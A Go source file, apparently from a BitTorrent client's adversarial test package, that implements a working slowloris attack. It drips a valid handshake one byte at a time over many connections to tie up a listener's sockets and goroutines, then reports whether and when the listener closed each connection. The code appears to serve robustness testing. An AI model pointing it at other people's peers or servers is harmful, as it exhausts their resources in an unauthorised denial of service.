package adversary

import (
	"io"
	"net"
	"net/netip"
	"sync"
	"time"
)

// HandshakeDrip is a slowloris against a BitTorrent listener: each of its
// connections sends a valid BEP 3 handshake one byte at a time, a byte
// every so often, so that a listener that waits for the whole handshake
// without a deadline holds a goroutine and a socket per connection for as
// long as the dripping goes on.
type HandshakeDrip struct {
	start time.Time
	stop  chan struct{}
	wg    sync.WaitGroup

	mu    sync.Mutex
	conns []*dripConn
}

type dripConn struct {
	c      net.Conn
	sent   int       // handshake bytes sent
	closed time.Time // when the listener closed it; zero while open
}

// DripReport is one connection's fate.
type DripReport struct {
	Sent   int           // handshake bytes sent before the close
	Closed bool          // the listener closed it
	After  time.Duration // from StartHandshakeDrip to the close
}

// StartHandshakeDrip connects count times from local (invalid: any) to
// addr, and on each sends the handshake for ih a byte every every (the
// first at once). It fails, closing what it opened, if a connection
// cannot be made.
func StartHandshakeDrip(local netip.Addr, addr netip.AddrPort, ih [20]byte, count int, every time.Duration) (*HandshakeDrip, error) {
	d := &HandshakeDrip{start: time.Now(), stop: make(chan struct{})}
	hs := Handshake(ih, RandomID()).Append(nil)
	for range count {
		nd := net.Dialer{Timeout: 5 * time.Second}
		if local.IsValid() {
			nd.LocalAddr = net.TCPAddrFromAddrPort(netip.AddrPortFrom(local, 0))
		}
		c, err := nd.Dial("tcp", addr.String())
		if err != nil {
			d.Stop()
			return nil, err
		}
		dc := &dripConn{c: c}
		d.mu.Lock()
		d.conns = append(d.conns, dc)
		d.mu.Unlock()
		d.wg.Add(2)
		go d.drip(dc, hs, every)
		go d.watch(dc)
	}
	return d, nil
}

func (d *HandshakeDrip) drip(dc *dripConn, hs []byte, every time.Duration) {
	defer d.wg.Done()
	t := time.NewTicker(every)
	defer t.Stop()
	for i := range hs {
		if _, err := dc.c.Write(hs[i : i+1]); err != nil {
			return
		}
		d.mu.Lock()
		dc.sent++
		d.mu.Unlock()
		select {
		case <-d.stop:
			return
		case <-t.C:
		}
	}
}

// watch reads until the listener closes the connection.
func (d *HandshakeDrip) watch(dc *dripConn) {
	defer d.wg.Done()
	_, _ = io.Copy(io.Discard, dc.c)
	d.mu.Lock()
	dc.closed = time.Now()
	d.mu.Unlock()
	dc.c.Close()
}

// Report returns each connection's fate so far.
func (d *HandshakeDrip) Report() []DripReport {
	d.mu.Lock()
	defer d.mu.Unlock()
	out := make([]DripReport, len(d.conns))
	for i, dc := range d.conns {
		out[i] = DripReport{Sent: dc.sent, Closed: !dc.closed.IsZero()}
		if out[i].Closed {
			out[i].After = dc.closed.Sub(d.start)
		}
	}
	return out
}

// Stop closes every connection and waits for the goroutines.
func (d *HandshakeDrip) Stop() {
	select {
	case <-d.stop:
	default:
		close(d.stop)
	}
	d.mu.Lock()
	for _, dc := range d.conns {
		dc.c.Close()
	}
	d.mu.Unlock()
	d.wg.Wait()
}
